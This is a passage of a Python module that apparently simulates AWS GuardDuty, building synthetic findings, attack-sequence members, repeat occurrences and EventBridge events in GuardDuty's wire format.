    actor = sequence["Actors"][0]["User"]
    endpoint = sequence["Endpoints"][0]
    members = []
    for signal in sequence["Signals"]:
        if signal["Type"] != "FINDING":
            continue
        last_seen = min(now, signal["LastSeenAt"])
        member = build_finding(rng, finding_type=signal["Name"], account_id=account_id, region=region,
                               detector_id=detector_id, now=last_seen, partition=partition, hostile=hostile,
                               created_at=min(last_seen, signal["FirstSeenAt"] + timedelta(minutes=5)))
        _share_actor(member, sequence_finding, key=actor_key or {
            "AccessKeyId": actor["CredentialUid"], "PrincipalId": actor["Uid"], "UserName": actor["Name"],
            "UserType": actor["Type"]}, endpoint=endpoint)
        member["AssociatedAttackSequenceArn"] = sequence_finding["Arn"]
        signal_of_finding(signal, member)
        # Naming its sequence changes the finding, so GuardDuty's UpdatedAt ("the time and date when the finding
        # was last updated", botocore guardduty model, Finding.UpdatedAt) is the sequence's time, not the signal's
        # last sighting: a member added now with an UpdatedAt in the past would be invisible to every listing by
        # updatedAt that already passed that time (a real finding was listed back then, when it was created).
        member["UpdatedAt"] = _iso(now)
        members.append(member)
    sequence_finding["Description"] = sequence["Description"]
    return sequence_finding, members


def signal_of_finding(signal: dict, member: dict) -> None:
    """Make `signal` (Type FINDING) describe `member`: its ARN, type, times, count, severity and title."""
    service = member["Service"]
    signal.update({
        "Uid": member["Arn"],
        "Name": member["Type"],
        "Description": member["Title"][:2000],  # Signal.Description: max 2000 (botocore guardduty model)
        "CreatedAt": _millis(datetime.fromisoformat(member["CreatedAt"])),
        "UpdatedAt": _millis(datetime.fromisoformat(member["UpdatedAt"])),
        "FirstSeenAt": _millis(datetime.fromisoformat(service["EventFirstSeen"])),
        "LastSeenAt": _millis(datetime.fromisoformat(service["EventLastSeen"])),
        "Severity": member["Severity"],
        "Count": service["Count"],
    })


def _share_actor(member: dict, sequence_finding: dict, *, key: dict, endpoint: dict) -> None:
    """Give a signal finding the sequence's actor: its access key, its remote address, and the sequence's
    resource block where the finding has one of the same kind; names in the title follow."""
    replaced: dict[str, str] = {}
    resource = member["Resource"]
    for block, value in sequence_finding["Resource"].items():
        if block != "ResourceType" and block in resource:
            _note_replaced(resource[block], value, replaced)
            resource[block] = copy.deepcopy(value)
    if "AccessKeyDetails" in resource:
        _note_replaced(resource["AccessKeyDetails"], key, replaced)
        resource["AccessKeyDetails"] = dict(key)

    def walk(node: Any) -> None:
        if isinstance(node, dict):
            for name, value in node.items():
                if name == "RemoteIpDetails" and isinstance(value, dict) and endpoint.get("Ip"):
                    old = value.get("IpAddressV4") or value.get("IpAddressV6")
                    if old:
                        replaced[old] = endpoint["Ip"]
                    value.pop("IpAddressV6", None)
                    value["IpAddressV4"] = endpoint["Ip"]
                else:
                    walk(value)
        elif isinstance(node, list):
            for item in node:
                walk(item)

    walk(member["Service"].get("Action"))
    for old, new in replaced.items():
        for text in ("Title", "Description"):
            member[text] = member[text].replace(old, new)


def _note_replaced(old: Any, new: Any, replaced: dict[str, str]) -> None:
    """Pairs of names (user, key, bucket, instance, cluster) that a block swap changes, for the title."""
    olds, news = (old if isinstance(old, list) else [old]), (new if isinstance(new, list) else [new])
    for before, after in zip(olds, news, strict=False):
        if isinstance(before, dict) and isinstance(after, dict):
            for name in ("UserName", "AccessKeyId", "Name", "InstanceId"):
                if isinstance(before.get(name), str) and isinstance(after.get(name), str) and before[name]:
                    replaced[before[name]] = after[name]


# CloudTrail logs the calls of global services (IAM, STS's global endpoint, CloudFront) in us-east-1
# (CloudTrail User Guide, "Global service events"), and a finding about one may report that region while
# it lives, with its detector, in another (botocore's guardduty model, Finding.Region: "For findings
# generated from Global Service Events, the Region value in the finding might differ from the Region where
# GuardDuty identifies the potential threat"). The finding's ARN keeps its home region.
GLOBAL_SERVICES = frozenset({"iam.amazonaws.com", "cloudfront.amazonaws.com"})
GLOBAL_EVENTS_REGION = "us-east-1"


def _reported_region(service: dict, region: str) -> str:
    api_call = service.get("Action", {}).get("AwsApiCallAction") or {}
    return GLOBAL_EVENTS_REGION if api_call.get("ServiceName") in GLOBAL_SERVICES else region


def repeat_occurrence(finding: dict, *, now: datetime, rng: random.Random) -> dict:
    """The same finding after GuardDuty saw its activity again (a new dict; the input is untouched).

    Identity (Id, Arn, CreatedAt) stays; Service.Count grows by 1..5, UpdatedAt and
    Service.EventLastSeen move to `now`, and occurrence details are overwritten by the latest one:
    every remote actor gets a new address and place, runtime processes get a new pid.
    """
    repeated = copy.deepcopy(finding)
    service = repeated.setdefault("Service", {})
    service["Count"] = int(service.get("Count", 1)) + rng.randint(1, 5)
    stamp = _iso(_millis(now))
    repeated["UpdatedAt"] = stamp
    service["EventLastSeen"] = stamp

    replaced: dict[str, str] = {}

    def refresh(node: Any) -> None:
        if isinstance(node, dict):
            for key, value in node.items():
                if key == "RemoteIpDetails" and isinstance(value, dict):
                    old = value.get("IpAddressV4") or value.get("IpAddressV6")
                    tor = value.get("Organization", {}).get("Asn") == _TOR_ORG[0]
                    node[key] = remote_ip_details(rng, tor=tor, ipv6="IpAddressV6" in value)
                    new = node[key].get("IpAddressV4") or node[key].get("IpAddressV6")
                    if old:
                        replaced[old] = new
                else:
                    refresh(value)
        elif isinstance(node, list):
            for item in node:
                refresh(item)

    refresh(repeated.get("Service", {}).get("Action"))
    # SourceIps sits next to RemoteIpDetails and may have been visited before it was replaced.
    kubernetes_call = service.get("Action", {}).get("KubernetesApiCallAction")
    if kubernetes_call and replaced:
        kubernetes_call["SourceIps"] = [replaced.get(ip, ip) for ip in kubernetes_call.get("SourceIps", [])]
    process = service.get("RuntimeDetails", {}).get("Process")
    if process:
        process["Pid"] = rng.randint(300, 65000)
        process["StartTime"] = _millis(now - timedelta(seconds=rng.randint(1, 300)))
    for old, new in replaced.items():
        for key in ("Title", "Description"):
            if isinstance(repeated.get(key), str):
                repeated[key] = repeated[key].replace(old, new)
    return repeated


# Members whose JSON name is not lowerCamel of the member name, keyed by (parent member, member).
# Taken from the `locationName`s of botocore's GuardDuty model; members without a `locationName`
# keep their member name on the wire. tests/simulator/test_catalogue.py checks this table against
# the model.
_RENAMED_KEYS: Mapping[tuple[str, str], str] = {
    ("ProductCodes", "Code"): "productCodeId",
    ("ProductCodes", "ProductType"): "productCodeType",
    ("TaskDetails", "TaskCreatedAt"): "createdAt",
    ("KubernetesApiCallAction", "SourceIps"): "sourceIPs",
    ("RdsLoginAttemptAction", "LoginAttributes"): "LoginAttributes",
    ("Account", "Name"): "account",
    ("Ec2Instance", "IamInstanceProfile"): "IamInstanceProfile",
    ("KubernetesWorkload", "KubernetesResourcesTypes"): "type",
    ("Location", "Latitude"): "lat",
    ("Location", "Longitude"): "lon",
}
# Map members: their keys are data (e.g. "AWS::S3::Bucket"), kept verbatim for this many levels.
_MAP_MEMBERS: Mapping[str, int] = {"AffectedResources": 1, "Profiles": 2, "Behavior": 2}


def _camel_key(parent: str | None, key: str) -> str:
    renamed = _RENAMED_KEYS.get((parent or "", key))
    if renamed is not None:
        return renamed
    return key[:1].lower() + key[1:]


def _camel_value(parent: str | None, value: Any, map_levels: int = 0) -> Any:
    if isinstance(value, dict):
        if map_levels:
            return {key: _camel_value(parent, item, map_levels - 1) for key, item in value.items()}
        return {
            _camel_key(parent, key): _camel_value(key, item, _MAP_MEMBERS.get(key, 0))
            for key, item in value.items()
        }
    if isinstance(value, list):
        return [_camel_value(parent, item) for item in value]
    if isinstance(value, datetime):
        return round(_millis(value).timestamp(), 3)
    return value


def to_camel_case(finding: dict) -> dict:
    """The finding as GuardDuty's own JSON spells it (wire responses, EventBridge, S3 exports).

    Keys become the model's `locationName`s, `timestamp` members become epoch seconds; string
    values (including the JSON string in `AdditionalInfo.Value`) are left alone.
    """
    return _camel_value(None, finding)


def to_eventbridge_event(finding: dict, *, event_id: str | None = None) -> dict:
    """The EventBridge event GuardDuty publishes for `finding` (camelCase detail)."""
    updated = finding["UpdatedAt"]
    # EventBridge's `time` has second precision: "2024-05-01T12:34:56Z".
    time = updated[:19] + "Z" if len(updated) >= 19 else updated
    return {
        "version": "0",
        "id": event_id or str(uuid.uuid4()),
        "detail-type": "GuardDuty Finding",
        "source": "aws.guardduty",
        "account": finding["AccountId"],
        "time": time,
        # Published from the detector's region (the ARN's), whatever `Region` says.
        "region": finding["Arn"].split(":")[3] if "Arn" in finding else finding["Region"],
        "resources": [],
        "detail": to_camel_case(finding),
    }


def random_finding_type(rng: random.Random, weights: Mapping[str, float] | None = None) -> str:
    """A finding type name, drawn band first (`weights` per band) then uniformly within the band.

    The default mix mirrors a typical organisation: mostly Low and Medium, fewer High, rare Critical.
    """
    weights = DEFAULT_BAND_WEIGHTS if weights is None else weights
    bands = [band for band in ("low", "medium", "high", "critical") if weights.get(band, 0) > 0 and _BY_BAND[band]]
    if not bands:
        raise ValueError("weights give no band a positive weight")
    band = rng.choices(bands, weights=[weights[band] for band in bands])[0]
    return rng.choice(_BY_BAND[band])


_BY_BAND: Mapping[str, tuple[str, ...]] = {
    band: tuple(spec.name for spec in _CATALOGUE if spec.band == band) for band in ("low", "medium", "high", "critical")
}
